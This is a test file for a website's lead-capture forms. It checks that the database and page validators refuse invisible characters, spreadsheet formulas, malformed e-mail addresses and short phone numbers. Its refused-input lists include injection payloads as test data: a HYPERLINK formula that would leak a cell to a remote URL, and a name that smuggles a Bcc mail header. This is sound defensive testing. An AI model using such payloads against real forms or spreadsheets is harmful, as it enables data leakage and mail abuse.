import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { createContactRequest } from '@/features/contact/api/create-contact-request';
import { realtorApplicationSchema } from '@/features/partners/api/create-realtor-application';
import { contactRequestSchema } from '@/features/contact/api/create-contact-request';
import { InsertError, insertWithFallback, type LeadTable } from '@/lib/insert-with-fallback';
import nodemailer from 'nodemailer';
import { hasVisibleText, isEmailShaped, isWholePhoneNumber, textMessages } from '@/lib/visitor-text';
import { anonFetch, sql, stack, useSiteDataLayer } from './stack-clients';

beforeAll(() => useSiteDataLayer());

const email = () => `text.${randomUUID().slice(0, 8)}@example.com`;
const base: Record<LeadTable, () => Record<string, unknown>> = {
  contacts: () => ({ name: 'Dana Reyes', email: email(), phone: '856-555-0101', message: 'Kitchen LVP.' }),
  leads: () => ({ email: email() }),
  realtors: () => ({ name: 'Sam Patel', email: email(), phone: '856-555-0102', brokerage: 'Haddon Realty' }),
  investors: () => ({ name: 'Lee Chen', email: email(), phone: '856-555-0103', company: 'Chen Flips LLC' }),
  floor_visualizer_requests: () => ({ customer_name: 'Ana Ortiz', email: email() }),
};

/** Posts as a visitor; the status, and the row as stored (or undefined). */
async function submit(table: LeadTable, record: Record<string, unknown>) {
  const id = randomUUID();
  const response = await anonFetch(table, { method: 'POST', body: JSON.stringify({ ...record, id }) });
  const [row] = await sql(`select * from public.${table} where id = $1`, [id]);
  return { status: response.status, body: await response.text(), row };
}

describe('the list of invisible characters', () => {
  it('is the same in the database and on the page, for every code point', async () => {
    const inDatabase = (
      await sql<{ n: number }>(
        `select n from generate_series(1, 1114111) n
         where n not between 55296 and 57343 and not private.has_visible_text(chr(n)) order by n`,
      )
    ).map((row) => row.n);
    const onPage: number[] = [];
    for (let n = 1; n <= 0x10ffff; n++) {
      if (n >= 0xd800 && n <= 0xdfff) continue;
      if (!hasVisibleText(String.fromCodePoint(n))) onPage.push(n);
    }
    expect(inDatabase).toEqual(onPage);
  });

  it("holds Unicode's White_Space, Default_Ignorable_Code_Point and control characters", () => {
    const unicode = /[\p{White_Space}\p{Default_Ignorable_Code_Point}\p{Cc}]/u;
    for (let n = 1; n <= 0x10ffff; n++) {
      if (n >= 0xd800 && n <= 0xdfff) continue;
      const character = String.fromCodePoint(n);
      if (unicode.test(character)) expect(hasVisibleText(character), `U+${n.toString(16)}`).toBe(false);
    }
  });
});

const refusedNames = [
  '\u200b\u200b',
  '\u3164',
  '\u2800 \u2800',
  '\u00a0\u00ad',
  '=HYPERLINK("http://example.com/?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\u200b=1+1',
  'Jo\u202eevil',
  'Jo\nPark',
  'Bob\u2028Bcc: x@evil.test\u2029X',
];
const acceptedNames = ['Jo Park', 'José Ñúñez', '李小龙', "O'Brien", 'Anne-Marie', '(Jo) Park'];

describe('person names', () => {
  const columns: [LeadTable, string][] = [
    ['contacts', 'name'],
    ['realtors', 'name'],
    ['investors', 'name'],
    ['floor_visualizer_requests', 'customer_name'],
  ];

  it.each(columns)(
    '%s.%s refuses blank-looking, formula-like and multi-line names and stores nothing',
    async (table, column) => {
      for (const name of refusedNames) {
        const { status, body, row } = await submit(table, { ...base[table](), [column]: name });
        expect([JSON.stringify(name), status, JSON.parse(body).code]).toEqual([JSON.stringify(name), 400, '23514']);
        expect(row).toBeUndefined();
      }
      for (const name of acceptedNames) {
        const { status, row } = await submit(table, { ...base[table](), [column]: name });
        expect([name, status, row?.[column]]).toEqual([name, 201, name]);
      }
    },
  );

  it('reach the site as a clear message naming the field', async () => {
    const error = await insertWithFallback('contacts', { ...base.contacts(), name: '\u200b' }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InsertError);
    expect((error as InsertError).message).toBe('The name is missing, too long or not in the expected format.');
  });

  it("agree with the page's schema: what it sends is stored, what it refuses the database refuses too", async () => {
    for (const name of [...refusedNames, ...acceptedNames]) {
      const parsed = realtorApplicationSchema.shape.name.safeParse(name);
      const { status } = await submit('realtors', { ...base.realtors(), name: parsed.success ? parsed.data : name });
      expect([name, status]).toEqual([name, parsed.success ? 201 : 400]);
    }
    // Control characters are cleaned away by the page; the rest of the refused names it refuses itself.
    const cleanedByThePage = ['Jo\u202eevil', 'Jo\nPark', 'Bob\u2028Bcc: x@evil.test\u2029X'];
    for (const name of refusedNames.filter((each) => !cleanedByThePage.includes(each))) {
      expect([name, realtorApplicationSchema.shape.name.safeParse(name).success]).toEqual([name, false]);
    }
  });
});

describe('e-mail and phone', () => {
  it('refuse an e-mail that starts like a formula or hides invisible characters', async () => {
    for (const address of ['=1+2@example.com', '+x@example.com', '-x@example.com', 'jo\u200b@example.com']) {
      expect([address, (await submit('leads', { email: address })).status]).toEqual([address, 400]);
    }
    expect((await submit('leads', { email: `jo+floors.${randomUUID().slice(0, 6)}@example.com` })).status).toBe(201);
  });

  it('refuse an address that mail software would read as a display name, a list or a quoted name, as the page does', async () => {
    for (const address of [
      'a1<victim@example.org>',
      'x,victim@example.org',
      'x;victim@example.org',
      '"jo"@example.com',
      'jo(comment)@example.com',
      'victim@example.org>',
      'jo\\@example.com',
    ]) {
      expect([address, (await submit('leads', { email: address })).status, isEmailShaped(address)]).toEqual([address, 400, false]);
    }
    for (const address of [`jo.o'neil+${randomUUID().slice(0, 6)}@example.com`, `josé.${randomUUID().slice(0, 6)}@bücher.de`]) {
      expect([address, (await submit('leads', { email: address })).status, isEmailShaped(address)]).toEqual([address, 201, true]);
    }
  });

  it('refuse what mail servers refuse (a trailing dot, an IP address for a domain, % in the name), as the page does with its message', async () => {
    for (const address of [
      'x@example.com.',
      'x@127.0.0.1',
      'x@example.123',
      'x%y@example.com',
      'x%example.org@example.com',
      'a..b@example.com',
      '.a@example.com',
      'a.@example.com',
      'x@.example.com',
      'x@a..com',
      'x@-a.com',
      'x@a-.com',
      'x@a_b.com',
    ]) {
      expect([address, (await submit('leads', { email: address })).status, isEmailShaped(address)]).toEqual([address, 400, false]);
      const parsed = contactRequestSchema.safeParse({ name: 'Dana Reyes', email: address, phone: '856-555-0101', message: 'Hi' });
      expect(parsed.error?.issues.map((issue) => issue.message)).toEqual([textMessages.emailShape]);
    }
  });

  it('take what a mail server takes, and the mail server takes each of them', async () => {
    const tag = randomUUID().slice(0, 6);
    const addresses = [
      `o'neil.${tag}@example.com`,
      `x!y{z}.${tag}@example.com`,
      `a-b_c.${tag}@mail-1.example.co.uk`,
      `josé.${tag}@bücher.de`,
      `x.${tag}@xn--80ak6aa92e.com`,
      `x.${tag}@example.xn--p1ai`,
    ];
    const smtp = nodemailer.createTransport({
      host: stack.emailWorkerEnv.SMTP_HOST,
      port: Number(stack.emailWorkerEnv.SMTP_PORT),
      secure: false,
      ignoreTLS: true,
    });
    try {
      for (const address of addresses) {
        expect([address, (await submit('leads', { email: address })).status, isEmailShaped(address)]).toEqual([address, 201, true]);
        await expect(smtp.sendMail({ from: 'site@example.com', to: { name: '', address }, subject: 'Check', text: 'Check' })).resolves.toBeTruthy();
      }
    } finally {
      smtp.close();
    }
  });

  it('take phone numbers as people write them, and nothing a spreadsheet could run', async () => {
    for (const phone of [
      '+1 856 555 0100',
      '(856) 555-0147',
      '856.555.0147',
      '856-555-0100 ext. 12',
      '(856) 555-0100 x12',
    ]) {
      expect([phone, (await submit('contacts', { ...base.contacts(), phone })).status]).toEqual([phone, 201]);
    }
    for (const phone of ['=1+2', '+HYPERLINK("x")', '-', '@1', 'call me', '856\t555', ' ']) {
      expect([phone, (await submit('contacts', { ...base.contacts(), phone })).status]).toEqual([phone, 400]);
      const parsed = contactRequestSchema.shape.phone.safeParse(phone);
      // The page refuses each itself (the tab it turns into a space, and "856 555" is six digits).
      expect([phone, parsed.success ? parsed.data : 'refused']).toEqual([phone, 'refused']);
    }
  });

  it('refuse a number nobody can ring back, fewer than ten digits before any extension, on every form\'s table, as the page does', async () => {
    const short = ['12', '856 555 010', '555-0100', '555 0100 x1234567', '(856) 555-01 ext. 99', '+44 20 7946'];
    for (const table of ['contacts', 'realtors', 'investors'] as const) {
      for (const phone of short) {
        const { status, body, row } = await submit(table, { ...base[table](), phone });
        expect([table, phone, status, row]).toEqual([table, phone, 400, undefined]);
        expect(body).toContain(`${table}_whole_phone_check`);
      }
      for (const phone of ['+1 856 555 0100', '856-555-0100 ext. 12', '8565550100x9', '+44 20 7946 0958', '856 555 0100 extension 3']) {
        expect([table, phone, (await submit(table, { ...base[table](), phone })).status]).toEqual([table, phone, 201]);
      }
    }
    // The database counts as the page's isWholePhoneNumber does, on the shapes both take.
    const phones = [...short, '+1 856 555 0100', '856-555-0100 ext. 12', '856 555 0100 EXT 1', '85655501 x0012', '1.856.555.0100'];
    const inDatabase = await sql<{ phone: string; whole: boolean }>(
      'select phone, private.is_whole_phone_number(phone) as whole from unnest($1::text[]) as phone',
      [phones],
    );
    expect(inDatabase.map((row) => [row.phone, row.whole])).toEqual(phones.map((phone) => [phone, isWholePhoneNumber(phone)]));
    // A partner form that skipped its own check would still name the phone field under the database's refusal.
    const error = await insertWithFallback('realtors', { ...base.realtors(), phone: '555-0100' }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InsertError);
    expect((error as InsertError).message).toBe('The phone is missing, too long or not in the expected format.');
  });
});

describe('organisation names and free text', () => {
  it('are kept, with a leading apostrophe when they start like a formula, so a spreadsheet shows them as text', async () => {
    const realtor = await submit('realtors', {
      ...base.realtors(),
      brokerage: '@properties',
      instagram: '@jess.homes',
    });
    expect(realtor.row).toMatchObject({ brokerage: "'@properties", instagram: 'jess.homes' });

    // The apostrophe does not count against the length the visitor may use.
    const longest = await submit('contacts', { ...base.contacts(), message: `=${'m'.repeat(4999)}` });
    expect([longest.status, String(longest.row?.message).length]).toEqual([201, 5001]);

    const formulaHandle = await submit('realtors', { ...base.realtors(), instagram: '@=1+1' });
    expect(formulaHandle.row).toMatchObject({ instagram: "'=1+1" });

    const contact = await submit('contacts', { ...base.contacts(), message: '- three bedrooms\n- oak, site-finished' });
    expect(contact.row).toMatchObject({ message: "'- three bedrooms\n- oak, site-finished" });

    const investor = await submit('investors', {
      ...base.investors(),
      company: '+Plus Homes LLC',
      investment_focus: '=rentals',
    });
    expect(investor.row).toMatchObject({ company: "'+Plus Homes LLC", investment_focus: "'=rentals" });

    const plain = await submit('investors', {
      ...base.investors(),
      company: 'Shore Homes',
      investment_focus: 'Rentals\tand flips',
    });
    expect(plain.row).toMatchObject({ company: 'Shore Homes', investment_focus: 'Rentals\tand flips' });
  });

  it('still refuse text that shows nothing, and control characters', async () => {
    expect((await submit('realtors', { ...base.realtors(), brokerage: '\u200b' })).status).toBe(400);
    expect((await submit('contacts', { ...base.contacts(), message: 'a\u0007b' })).status).toBe(400);
    expect((await submit('investors', { ...base.investors(), investment_focus: '\u2800' })).status).toBe(400);
  });
});

describe('a NUL byte', () => {
  it('is refused by the server, and the site words that for people instead of passing on Postgres', async () => {
    const { status, row } = await submit('contacts', { ...base.contacts(), message: 'Oak\u0000 floors' });
    expect(status).toBe(400);
    expect(row).toBeUndefined();

    const error = await insertWithFallback('contacts', { ...base.contacts(), name: 'Jo\u0000' }).catch(
      (e: unknown) => e,
    );
    expect((error as InsertError).message).toBe(
      'The text contains a character that cannot be stored (a NUL byte). Remove it and try again.',
    );
  });

  it('never gets that far from the contact form: the schema drops it and the request is stored', async () => {
    const record = { name: 'Jo\u0000 Park', email: email(), phone: '856-555-0104', message: 'Oak\u0000 floors' };
    const { id } = await createContactRequest(record);
    expect(await sql('select name, message from public.contacts where id = $1', [id])).toEqual([
      { name: 'Jo Park', message: 'Oak floors' },
    ]);
  });
});
